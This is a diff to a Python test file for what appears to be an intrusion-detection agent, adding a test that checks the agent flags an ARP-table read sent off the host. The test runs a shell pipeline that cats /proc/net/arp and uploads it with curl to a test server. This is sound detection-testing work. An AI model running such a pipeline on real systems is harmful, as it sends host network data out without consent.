@@ -4,7 +4,7 @@ os.networkInterfaces() read them: the reader is tainted and the addresses in the
 import os
 import subprocess
 
-from idslib import Agent, RULE_OFF_HOST, expect, expect_eq
+from idslib import Agent, RULE_OFF_HOST, expect, expect_eq, sh
 
 POLICY = """version: 1
 identifiers:
@@ -59,3 +59,34 @@ def test_node_network_interfaces_mac_is_confirmed(host):
         a = agent.wait_alert(process__pid=int(r.stdout.split()[-1]))
     expect_eq("confirmed", a["confidence"], "confidence")
     expect_eq("netlink", a["identifiers"][0]["source"], "identifiers[].source")
+
+
+ARP_POLICY = """version: 1
+identifiers:
+  - name: router-mac
+    netlink: [RTM_GETNEIGH]
+    files: [/proc/net/arp]
+""" + RULE_OFF_HOST
+
+
+def neighbour_macs():
+    with open("/proc/net/arp") as f:
+        return [line.split()[3] for line in f.readlines()[1:]
+                if len(line.split()) > 3 and line.split()[3] != "00:00:00:00:00:00"]
+
+
+def test_arp_table_read_by_cat_and_sent_is_confirmed(host):
+    """The kernel's ARP table, as `arp` and `cat /proc/net/arp` read it: every MAC in it is
+    learnt, the reader tainted; the neighbour here is the test host, reached once first."""
+    sh(["curl", "-s", "-o", "/dev/null", "--max-time", "5", "http://%s:8080/" % host.addr])
+    expect(neighbour_macs(), "a neighbour in /proc/net/arp")
+    with Agent(policy_text=ARP_POLICY) as agent:
+        r = subprocess.run(["sh", "-c", "cat /proc/net/arp | curl -s -o /dev/null --max-time 5 "
+                            "--data-binary @- http://%s:8080/" % host.addr],
+                           stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=20)
+        expect_eq(0, r.returncode, "exit status of cat /proc/net/arp | curl")
+        a = agent.wait_alert(process__comm="curl", confidence="confirmed")
+    ident = a["identifiers"][0]
+    expect_eq("router-mac", ident["name"], "identifier")
+    expect_eq("file", ident["source"], "identifiers[].source")
+    expect("-pipe->" in (a.get("lineage") or ""), "cat in the lineage, got %r" % a.get("lineage"))
